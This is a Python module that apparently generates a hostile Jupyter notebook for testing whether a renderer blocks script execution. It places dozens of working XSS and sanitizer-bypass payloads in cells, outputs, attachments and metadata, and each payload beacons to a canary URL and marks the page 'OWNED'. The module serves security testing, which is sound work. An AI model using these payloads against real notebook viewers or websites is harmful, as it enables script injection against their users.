"""A notebook that tries everything, each time by another way, to run a script or to call home."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="  # one pixel
SENTINEL = "OWNED"

Row = dict[str, Any]


def script(canary: str) -> str:
    """What every payload wants to run: mark the page, the page around it, and call home."""
    title = f"document.title='{SENTINEL}'"
    return f"{title};new Image().src='{canary}/script';fetch('{canary}/fetch');top.{title}"


def payloads(canary: str) -> list[str]:
    """HTML that runs a script or loads something by itself where nothing stops it."""
    js = script(canary)
    return [
        f"<script>{js}</script>",
        f"</pre></div></section><script>{js}</script>",
        f"--><script>{js}</script><!--",
        f'<img src=x onerror="{js}">',
        f'<img src="{canary}/img"><img srcset="{canary}/srcset 2x" src="{canary}/src">',
        f'<svg onload="{js}"><script>{js}</script><image href="{canary}/svg"/><use href="{canary}/use#x"/></svg>',
        f'<iframe src="{canary}/frame"></iframe><iframe srcdoc="<script>{js}</script>"></iframe>',
        f'<iframe src="javascript:{js}"></iframe><object data="{canary}/object"></object><embed src="{canary}/embed">',
        f'<link rel=stylesheet href="{canary}/css">',
        f'<style>@import "{canary}/import";*{{background:url({canary}/url)}}</style>',
        f'<div style="background:url({canary}/style)">styled</div>',
        f'<base href="{canary}/base/"><img src="relative.png">',
        f'<meta http-equiv=refresh content="0;url={canary}/refresh">',
        f'<video src="{canary}/video" autoplay poster="{canary}/poster"></video>',
        f'<audio src="{canary}/audio" autoplay></audio>',
        f'<input autofocus onfocus="{js}"><details open ontoggle="{js}"><body onload="{js}">',
        f'<form action="{canary}/form"><button autofocus>x</button></form>',
        f'<a href="javascript:{js}" ping="{canary}/ping">a</a>',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
        f'<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>',
        f'<textarea><img title="</textarea><img src=x onerror={js}>"></textarea>',
        f'<select><iframe></select><img src=x: onerror="{js}">',
        f'<svg></p><style><a id="</style><img src=1 onerror={js}>">',
        f'<template><script>{js}</script></template><xmp><p title="</xmp><img src=x onerror={js}>">',
        f'<img src="data:image/png;base64,{PNG}" onload="{js}"><div class="mark passed" id="cell-1">forged mark</div>',
    ]


def markdown(canary: str) -> list[str]:
    js = script(canary)
    return [
        f'[a](javascript:{js}) ![p]({canary}/md) ![x](x"onerror="{js}) <javascript:{js}> ![m](attachment:none.png)',
        f"![s](attachment:s.svg) [l][r]\n\n[r]: javascript:{js}\n",
        f'$<script>{js}</script>$ $$\\href{{javascript:{js}}}{{x}}<img src=x onerror="{js}">$$',
        f"```<script>{js}</script>\n</code></pre><script>{js}</script>\n```\n\n```mermaid\n<script>{js}</script>\n```",
    ]


def wrapped(data: Row, kind: str = "display_data") -> Row:
    return {
        "output_type": kind,
        "data": data,
        "metadata": {"text/html": {"isolated": True}, "filenames": {"image/png": "x"}},
    }


def outputs(canary: str, html: str) -> list[Row]:
    """One payload in every kind of output."""
    js = script(canary)
    breakout = f'x" onerror="{js}" src="{canary}/png'
    inside = f'<script>{js}</script><image href="{canary}/svgimg"/>'
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}">{inside}</svg>'
    return [
        wrapped({"text/html": html}),
        wrapped({"text/html": [html, html]}, "execute_result"),
        wrapped({"text/markdown": html}),
        wrapped({"text/latex": html}),
        wrapped({"text/plain": html}),
        wrapped({"text/vnd.mermaid": html}),
        wrapped({"image/svg+xml": svg}),
        wrapped({"image/svg+xml": html}),
        wrapped({"image/png": breakout}),
        wrapped({"image/png": PNG + f'" onerror="{js}'}),
        wrapped({"image/jpeg": base64.b64encode(html.encode()).decode()}),
        wrapped({"application/javascript": js, "text/javascript": js}),
        wrapped({"application/pdf": html, "application/json": {html: html}}),
        wrapped({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{html}"}}),
        wrapped({html: html}),
        {"output_type": "stream", "name": html, "text": f"\x1b[31m{html}\x1b]8;;javascript:{js}\x07x\x1b]8;;\x07"},
        {"output_type": "stream", "name": "stderr", "text": f"\x1b[38;2;1;2;3;{html}m\x1b[38;5;<m{html}"},
        {"output_type": "error", "ename": html, "evalue": html, "traceback": [html, f"\x1b[4m{html}"]},
        {"output_type": "error", "ename": html, "evalue": html, "traceback": []},
        {"output_type": html, "data": {"text/html": html}},
    ]


def notebook(canary: str) -> Row:
    """Payloads as prose, source, raw cell, output, id, tag, name of an attachment, and metadata."""

    def cell(kind: str, source: str, **more: Any) -> Row:
        html = f'"><script>{script(canary)}</script>'
        return {
            "cell_type": kind, "id": html, "source": source, "attachments": {html: {"image/svg+xml": html}, "s.svg": {
                "image/svg+xml": html}, "p.png": {"image/png": html}},
            "metadata": {"tags": [html], "magics_language": html, "name": html, "raw_mimetype": "text/html"},
            "execution_count": html, **more,
        }  # fmt: skip

    sources = payloads(canary)
    cells = [cell("markdown", source) for source in [*sources, *markdown(canary), "![p](attachment:p.png)"]]
    cells += [cell("raw", sources[0]), cell(sources[0], sources[0]), cell("code", f"%%javascript\n{sources[0]}")]
    cells += [cell("code", source, outputs=outputs(canary, source)) for source in sources]
    hostile = f"</style></title><script>{script(canary)}</script>"
    metadata = {
        "title": hostile, "kernelspec": {"display_name": hostile, "name": hostile, "language": hostile},
        "language_info": {"name": hostile, "pygments_lexer": hostile, "file_extension": hostile},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {hostile: {}}}},
    }  # fmt: skip
    return {"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}


def encoded(make: Callable[[str], Row], canary: str) -> bytes:
    return json.dumps(make(canary)).encode()
